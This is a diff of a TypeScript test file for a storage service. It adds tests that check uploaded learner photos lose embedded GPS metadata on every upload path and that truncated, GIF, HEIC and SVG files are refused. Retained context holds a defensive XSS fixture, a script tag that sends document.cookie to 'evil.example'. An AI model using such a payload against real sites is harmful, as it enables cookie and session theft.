@@ -1,4 +1,6 @@
+import { crc32 } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
+import { png } from '../../../test/learner-with-data.ts';
 import { startTestStorage, type TestStorage } from '../../../test/storage.ts';
 
 let server: TestStorage;
@@ -10,7 +12,6 @@ beforeAll(async () => {
 });
 afterAll(() => server.stop());
 
-const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
 const html = '<script>fetch("//evil.example?" + document.cookie)</script>';
 
 const keyed = (token = ada.token) => ({
@@ -77,6 +78,75 @@ describe('content', () => {
     const { data } = server.visitor.from('posters').getPublicUrl('real.png', { download: true });
     const plain = await fetch(data.publicUrl);
     expect(plain.headers.get('content-disposition')).toBe("attachment; filename*=UTF-8''real.png");
+  });
+});
+
+describe('a picture of a learner', () => {
+  const secret = 'GPS 6.5244N 3.3792E';
+  const chunk = (type: string, text: string) => {
+    const body = Buffer.from(type + text);
+    const ends = Buffer.alloc(8);
+    ends.writeUInt32BE(text.length, 0);
+    ends.writeUInt32BE(crc32(body), 4);
+    return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)]);
+  };
+  const noted = Buffer.concat([
+    ...[png.subarray(0, 33), chunk('tEXt', secret), png.subarray(33), Buffer.from(secret)],
+  ]);
+  const contentType = 'image/png';
+  const kept = async (name: string) => {
+    const { data } = await ada.storage.from('scans').download(`${ada.id}/${name}`);
+    return Buffer.from((await data?.arrayBuffer()) ?? new ArrayBuffer(0));
+  };
+
+  it('comes in without what a camera wrote into it, by every way', async () => {
+    const scans = ada.storage.from('scans');
+    expect((await scans.upload(`${ada.id}/raw.png`, noted, { contentType })).error).toBeNull();
+    const form = new Blob([noted], { type: contentType });
+    expect((await scans.upload(`${ada.id}/form.png`, form)).error).toBeNull();
+    expect((await scans.update(`${ada.id}/raw.png`, noted, { contentType })).error).toBeNull();
+    const { data: link } = await scans.createSignedUploadUrl(`${ada.id}/link.png`);
+    const sent = await scans.uploadToSignedUrl(
+      ...([`${ada.id}/link.png`, link?.token ?? '', noted, { contentType }] as const),
+    );
+    expect(sent.error).toBeNull();
+    const lying = { contentType: 'application/pdf' };
+    expect((await scans.upload(`${ada.id}/lie.pdf`, noted, lying)).error).toBeNull();
+    const plain = { contentType: 'application/octet-stream' };
+    const homework = ada.storage.from('homework');
+    expect((await homework.upload(`${ada.id}/plain.bin`, noted, plain)).error).toBeNull();
+    for (const name of ['raw.png', 'form.png', 'link.png', 'lie.pdf']) {
+      expect(await kept(name), name).toEqual(png);
+    }
+    const { data } = await homework.download(`${ada.id}/plain.bin`);
+    expect(Buffer.from((await data?.arrayBuffer()) ?? new ArrayBuffer(0))).toEqual(png);
+    const { data: info } = await scans.info(`${ada.id}/raw.png`);
+    expect(info?.size).toBe(png.length);
+  });
+
+  it.each([
+    ['cut off', png.subarray(0, 40), 'image/png', '400'],
+    ['only a beginning', png.subarray(0, 16), 'image/png', '400'],
+    ['of a kind that keeps its notes', Buffer.from('GIF89a, a long picture'), 'image/gif', '415'],
+    ['from a phone, as HEIC', Buffer.from('\0\0\0\x1cftypheic'), 'image/heic', '415'],
+    ['a program in disguise', Buffer.from('<svg/>'), 'image/svg+xml', '415'],
+  ])(
+    'that is %s is refused in a sentence, and nothing stays',
+    async (_case, file, type, status) => {
+      const files = (await server.storedFiles()).length;
+      const { error } = await ada.storage
+        .from('homework')
+        .upload(`${ada.id}/bad`, file, { contentType: type });
+      expect(error).toMatchObject({ statusCode: status });
+      expect(await server.storedFiles()).toHaveLength(files);
+    },
+  );
+
+  it('is kept to the byte when the service itself puts it there', async () => {
+    const posters = server.service.from('posters');
+    expect((await posters.upload('noted.png', noted, { contentType })).error).toBeNull();
+    const { data } = await posters.download('noted.png');
+    expect(Buffer.from((await data?.arrayBuffer()) ?? new ArrayBuffer(0))).toEqual(noted);
   });
 });
 
